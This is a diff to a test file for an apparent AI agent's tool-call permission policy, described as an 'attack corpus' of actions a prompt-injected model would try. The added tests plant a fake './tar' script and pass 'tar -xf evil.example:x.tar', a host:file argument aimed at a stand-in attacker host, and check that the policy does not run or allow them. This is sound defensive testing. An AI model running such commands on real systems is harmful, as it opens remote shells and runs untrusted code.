@@ -1,5 +1,7 @@
 // The attack corpus: what a prompt-injected model would try, each with the decision the policy
 // must give (deny) and the reason it must give for it. Real workspace, real symlinks.
+import fs from 'node:fs';
+import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { decide } from '../../src/policy/decide.js';
 import { fetches, makeFixture, reads, shell, writes, type CallMaker, type Fixture } from './fixture.js';
@@ -701,5 +703,25 @@ describe(`attack corpus (${attacks.length} attacks)`, () => {
     const decision = await decide(makeCall(fixture), fixture.context(policy.mode, policy.allow, policy.deny));
     expect(decision.decision).toBe('deny');
     expect(decision.reason).toMatch(reason);
+  });
+});
+
+describe('listing an archive runs nothing of the repository', () => {
+  it('lists with the system tar, not the command word: a ./tar the repository ships never runs', async () => {
+    const marker = path.join(fixture.tmp, 'ran');
+    const shipped = path.join(fixture.root, 'tar');
+    fs.writeFileSync(shipped, `#!/bin/sh\ntouch '${marker}'\n`, { mode: 0o755 });
+    try {
+      const decision = await decide(shell('./tar xf x.tar')(fixture), fixture.context('allowlist', ['shell: ./tar *']));
+      expect(decision.decision).toBe('allow');
+      expect(fs.existsSync(marker)).toBe(false);
+    } finally {
+      fs.rmSync(shipped);
+    }
+  });
+
+  it('takes host:file as a local file, so no remote shell starts', async () => {
+    const decision = await decide(shell('tar -xf evil.example:x.tar')(fixture), fixture.context(ARCHIVES.mode, ARCHIVES.allow, ARCHIVES.deny));
+    expect(decision).toMatchObject({ decision: 'deny', reason: expect.stringMatching(/'evil\.example:x\.tar' cannot be listed/) });
   });
 });
